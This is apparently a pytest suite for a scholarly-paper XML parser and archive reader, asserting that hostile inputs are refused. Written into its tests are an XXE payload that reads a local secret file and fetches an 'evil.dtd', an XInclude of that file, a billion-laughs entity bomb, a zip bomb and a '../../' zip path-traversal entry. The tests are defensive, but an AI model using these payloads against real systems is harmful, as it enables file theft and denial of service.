"""Hostile full-text files (issue 23, findings 2, 4, 13, 14, and what held up): XML that
libxml2 cuts short under recover=True, entities and includes that reach out, bombs in
zips, another paper's file. Pure parsing and the archive; no server."""

import gzip
import zipfile
from pathlib import Path

import pytest

from extract.errors import InputRejected
from extract.parse_fulltext import full_text_of, parse_xml
from extract.records import Work
from kg.sources.archive import Archive, store_texts
from kg.workspace import Workspace

DATA = Path(__file__).parent / "data"
MINE, OTHER = "10.1101/2099.01.01.000001", "10.1101/2099.01.01.000002"


def jats(
    doi: str, methods: bytes = b"<p>We fine-tuned ESM-2 on our data.</p>", intro: bytes = b"x"
) -> bytes:
    return (
        b'<article><front><article-meta><article-id pub-id-type="doi">' + doi.encode()
        + b"</article-id><title-group><article-title>T</article-title></title-group>"
        b"</article-meta></front><body><sec><title>Introduction</title><p>" + intro
        + b"</p></sec><sec><title>Methods</title>" + methods + b"</sec></body></article>"
    )  # fmt: skip


def test_a_valid_file_is_full_text() -> None:
    text = full_text_of(parse_xml(jats(MINE)), MINE)
    assert [s.heading for s in text.sections] == ["Introduction", "Methods"]


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        (jats(MINE, intro=b"a" * (11 * 1024 * 1024)), "Text node too long"),
        (jats(MINE, intro=b"<i>" * 300 + b"deep" + b"</i>" * 300), "Excessive depth"),
        (jats(MINE, intro=b"<i>" * 100_000 + b"deep" + b"</i>" * 100_000), "Excessive depth"),
        (jats(MINE)[: jats(MINE).index(b"ESM-2")], "Premature end of data"),
    ],
    ids=["11MB-text-node", "300-deep", "100000-deep", "truncated"],
)
def test_a_parse_that_lost_content_is_not_full_text(xml: bytes, reason: str) -> None:
    parsed = parse_xml(xml)  # recover=True still gives what it read
    assert parsed.lost and reason in parsed.lost
    with pytest.raises(InputRejected, match=f"damaged XML, its text may be cut short.*{reason}"):
        full_text_of(parsed, MINE)


def test_a_lone_surrogate_is_a_reason_never_a_crash() -> None:
    with pytest.raises(InputRejected):
        full_text_of(parse_xml(jats(MINE, intro=b"ESM-2 &#xD800;")), MINE)


def test_another_papers_doi_or_no_body_is_not_this_works_full_text() -> None:
    with pytest.raises(InputRejected, match=f"the file is the paper {OTHER}, not this work's"):
        full_text_of(parse_xml(jats(OTHER)), MINE)
    bodiless = jats(MINE).split(b"<body>")[0] + b"</article>"
    with pytest.raises(InputRejected, match="no body"):
        full_text_of(parse_xml(bodiless), MINE)


# --- what held up, and must stay so ----------------------------------------------------


def test_entities_and_includes_never_reach_out(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-LINE")
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE article [<!ENTITY xxe SYSTEM "file://{secret}">'
        f'<!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd"> %remote;]>'
    ).encode() + jats(MINE, intro=(
        b'&xxe; <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://'
        + str(secret).encode() + b'" parse="text"/>'))  # fmt: skip
    text = parse_xml(xml).text
    assert "TOP-SECRET" not in text.model_dump_json()


def test_a_billion_laughs_is_not_expanded() -> None:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    xml = f'<?xml version="1.0"?><!DOCTYPE article [{entities}]>'.encode()
    parsed = parse_xml(xml + jats(MINE, intro=b"&lol9;"))
    assert len(parsed.text.model_dump_json()) < 10_000


def test_bytes_that_are_not_utf8_become_replacement_characters() -> None:
    parsed = parse_xml(jats(MINE, intro=b"caf\xe9 and \xff\xfe"))
    text = full_text_of(parsed, MINE)  # nothing lost: still full text
    assert text.sections[0].paragraphs[0] == "caf\ufffd and \ufffd\ufffd"


# --- archives ---------------------------------------------------------------------------


def works(*dois: str) -> list[tuple[Work, dict[str, object]]]:
    return [(Work(id=f"W{i}", doi=d, title=f"T{i}"), {}) for i, d in enumerate(dois)]


def test_a_zip_entry_over_the_limit_is_refused_before_it_is_read(
    tmp_path: Path, workspace: Workspace
) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("2099.01.01.000001.xml", jats(MINE, intro=b"0" * 20_000_000))
    assert bomb.stat().st_size < 100_000
    archive = Archive(bomb, max_bytes=1_000_000)
    with pytest.raises(InputRejected, match="over the limit of 1,000,000"):
        archive.read("2099.01.01.000001.xml")
    failures = store_texts(workspace, works(MINE), archive)
    assert workspace.text_sources(["W0"]).get("W0") != "archive"
    assert "over the limit" in failures[0][1]


def test_an_archive_file_is_used_only_for_its_own_doi(tmp_path: Path, workspace: Workspace) -> None:
    folder = tmp_path / "papers"
    folder.mkdir()
    (folder / "2099.01.01.000001.xml").write_bytes(jats(OTHER))  # named for MINE, holds OTHER
    (folder / "bad.xml").write_bytes(jats("10.1/bad", intro=b"&#xD800;"))
    failures = store_texts(workspace, works(MINE, OTHER, "10.1/bad"), Archive(folder))
    assert workspace.text("W0") is None  # MINE keeps no text of OTHER's file
    stored = workspace.text("W1")
    assert stored is not None and stored.source == "jats"
    assert list(workspace.text_sources(["W0", "W1", "W2"]).values()).count("archive") == 1
    reasons = dict(failures)
    assert f"the file is the paper {OTHER}" in reasons["W0"]
    assert any("55296" in r or "UnicodeDecodeError" in r for r in reasons.values())


def test_zip_members_are_never_extracted_and_gz_is_refused(
    tmp_path: Path, workspace: Workspace
) -> None:
    climbing = tmp_path / "deep" / "climb.zip"
    climbing.parent.mkdir()
    with zipfile.ZipFile(climbing, "w") as zipped:
        zipped.writestr("../../escaped.xml", jats(MINE))
    assert store_texts(workspace, works(MINE), Archive(climbing)) == []
    assert workspace.text_sources(["W0"]) == {"W0": "archive"}  # read from the zip by DOI
    assert not list(tmp_path.rglob("escaped.xml"))
    gz = tmp_path / "papers.xml.gz"
    gz.write_bytes(gzip.compress(jats(MINE)))
    with pytest.raises(InputRejected, match="not a readable zip"):
        Archive(gz)
